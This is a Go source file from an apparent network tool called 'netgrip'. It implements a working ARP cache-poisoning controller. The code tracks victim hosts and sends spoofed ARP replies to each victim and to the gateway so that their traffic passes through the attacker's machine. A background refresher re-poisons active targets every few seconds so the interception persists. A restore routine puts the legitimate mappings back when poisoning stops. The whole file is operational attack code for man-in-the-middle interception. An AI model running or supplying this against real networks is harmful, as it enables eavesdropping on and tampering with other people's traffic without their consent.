// Package poison tracks poisoning victims and drives the two-sided
// spoofed-reply stream: the victim learns that the gateway lives at our MAC,
// the gateway learns that the victim does.
package poison

import (
	"fmt"
	"log"
	"sync"
	"time"

	"netgrip/internal/arp"
	"netgrip/internal/arpwire"
	"netgrip/internal/errdefs"
)

// Target is one poisoning victim. Records are keyed by IP and never deleted;
// a stopped target stays inactive until a later Start reactivates it.
type Target struct {
	IP     string `json:"ip"`
	MAC    string `json:"mac"`
	Active bool   `json:"active"`
}

// Controller owns the target list and the optional re-poisoning refresher.
// The controller mutex is released before any engine call, so it is never
// held together with the engine's topology lock.
type Controller struct {
	engine *arp.Engine
	logger *log.Logger

	mu      sync.Mutex
	targets []*Target
	active  bool

	refreshStop chan struct{}
	refreshWG   sync.WaitGroup
}

// NewController returns a controller bound to the engine.
func NewController(engine *arp.Engine, logger *log.Logger) *Controller {
	if logger == nil {
		logger = log.Default()
	}
	return &Controller{engine: engine, logger: logger}
}

// Start begins poisoning targetIP. Starting an already-active target is a
// no-op success. On activation the spoof pair goes out immediately, victim
// side first; the result is the conjunction of both sends.
func (c *Controller) Start(targetIP, targetMAC string) error {
	if !c.engine.CanTransmit() {
		return fmt.Errorf("%w: poisoning requires an open capture handle", errdefs.ErrNotInitialized)
	}
	if _, err := arpwire.StringToIP(targetIP); err != nil {
		return err
	}
	if _, err := arpwire.StringToMAC(targetMAC); err != nil {
		return err
	}

	topo := c.engine.Topology()
	if arpwire.IsZeroMAC(topo.GatewayMAC) {
		// A later refresh may still repair the gateway side; the victim-side
		// spoof works regardless.
		if !c.engine.RefreshGatewayMAC() {
			c.logger.Printf("poison: gateway MAC unresolved, gateway-side spoof for %s will carry a zero destination", targetIP)
		}
		topo = c.engine.Topology()
	}

	c.mu.Lock()
	target := c.find(targetIP)
	if target != nil && target.Active {
		c.mu.Unlock()
		return nil
	}
	if target == nil {
		target = &Target{IP: targetIP}
		c.targets = append(c.targets, target)
	}
	target.MAC = targetMAC
	target.Active = true
	c.active = true
	c.mu.Unlock()

	return c.sendSpoofPair(targetIP, targetMAC, topo.GatewayIP, topo.GatewayMAC)
}

// Stop deactivates targetIP and sends the restoration pair with the
// legitimate mappings. Returns false when no active record exists.
func (c *Controller) Stop(targetIP string) bool {
	c.mu.Lock()
	target := c.find(targetIP)
	if target == nil || !target.Active {
		c.mu.Unlock()
		return false
	}
	target.Active = false
	targetMAC := target.MAC
	remaining := false
	for _, t := range c.targets {
		if t.Active {
			remaining = true
			break
		}
	}
	if !remaining {
		c.active = false
	}
	c.mu.Unlock()

	c.restore(targetIP, targetMAC)
	return true
}

// StopAll deactivates every target, restoring each. Used on cleanup.
func (c *Controller) StopAll() {
	for _, t := range c.Targets() {
		if t.Active {
			c.Stop(t.IP)
		}
	}
}

// Active reports whether any target is being poisoned.
func (c *Controller) Active() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.active
}

// Targets returns a snapshot of all records, active and inactive.
func (c *Controller) Targets() []Target {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]Target, len(c.targets))
	for i, t := range c.targets {
		out[i] = *t
	}
	return out
}

// StartRefresher launches the periodic re-poisoner. ARP caches expire in
// minutes, so an interception that should outlive them re-emits the spoof
// pair for every active target at the given interval (clamped to 1-5 s).
// The refresher goroutine is the only background sender; like the public
// mutators it never holds the controller mutex while calling the engine.
func (c *Controller) StartRefresher(interval time.Duration) {
	if interval < time.Second {
		interval = time.Second
	}
	if interval > 5*time.Second {
		interval = 5 * time.Second
	}

	c.mu.Lock()
	if c.refreshStop != nil {
		c.mu.Unlock()
		return
	}
	stop := make(chan struct{})
	c.refreshStop = stop
	c.mu.Unlock()

	c.refreshWG.Add(1)
	go func() {
		defer c.refreshWG.Done()
		ticker := time.NewTicker(interval)
		defer ticker.Stop()
		for {
			select {
			case <-stop:
				return
			case <-ticker.C:
				c.refreshAll()
			}
		}
	}()
}

// StopRefresher halts the periodic re-poisoner and waits for it to exit.
func (c *Controller) StopRefresher() {
	c.mu.Lock()
	stop := c.refreshStop
	c.refreshStop = nil
	c.mu.Unlock()
	if stop == nil {
		return
	}
	close(stop)
	c.refreshWG.Wait()
}

func (c *Controller) refreshAll() {
	topo := c.engine.Topology()
	for _, t := range c.Targets() {
		if !t.Active {
			continue
		}
		if err := c.sendSpoofPair(t.IP, t.MAC, topo.GatewayIP, topo.GatewayMAC); err != nil {
			c.logger.Printf("poison: refresh for %s failed: %v", t.IP, err)
		}
	}
}

// sendSpoofPair poisons both directions: the victim first, then the gateway.
func (c *Controller) sendSpoofPair(targetIP, targetMAC, gatewayIP, gatewayMAC string) error {
	victimErr := c.engine.SendSpoof(targetMAC, targetIP, gatewayIP)
	if victimErr != nil {
		c.logger.Printf("poison: victim-side spoof for %s failed: %v", targetIP, victimErr)
	}

	if arpwire.IsZeroMAC(gatewayMAC) {
		gatewayMAC = "00:00:00:00:00:00"
	}
	gatewayErr := c.engine.SendSpoof(gatewayMAC, gatewayIP, targetIP)
	if gatewayErr != nil {
		c.logger.Printf("poison: gateway-side spoof for %s failed: %v", targetIP, gatewayErr)
	}

	if victimErr != nil {
		return victimErr
	}
	return gatewayErr
}

// restore re-announces the legitimate mappings to both sides. When the handle
// is already gone the frames are skipped silently per the cleanup contract.
func (c *Controller) restore(targetIP, targetMAC string) {
	if !c.engine.CanTransmit() {
		return
	}
	topo := c.engine.Topology()

	if !arpwire.IsZeroMAC(topo.GatewayMAC) {
		if err := c.engine.SendReply(topo.GatewayIP, targetIP, topo.GatewayMAC, targetMAC); err != nil {
			c.logger.Printf("poison: victim-side restoration for %s failed: %v", targetIP, err)
		}
	}
	if !arpwire.IsZeroMAC(topo.GatewayMAC) && !arpwire.IsZeroMAC(targetMAC) {
		if err := c.engine.SendReply(targetIP, topo.GatewayIP, targetMAC, topo.GatewayMAC); err != nil {
			c.logger.Printf("poison: gateway-side restoration for %s failed: %v", targetIP, err)
		}
	}
}

// find returns the record for ip, or nil. Caller holds the mutex.
func (c *Controller) find(ip string) *Target {
	for _, t := range c.targets {
		if t.IP == ip {
			return t
		}
	}
	return nil
}
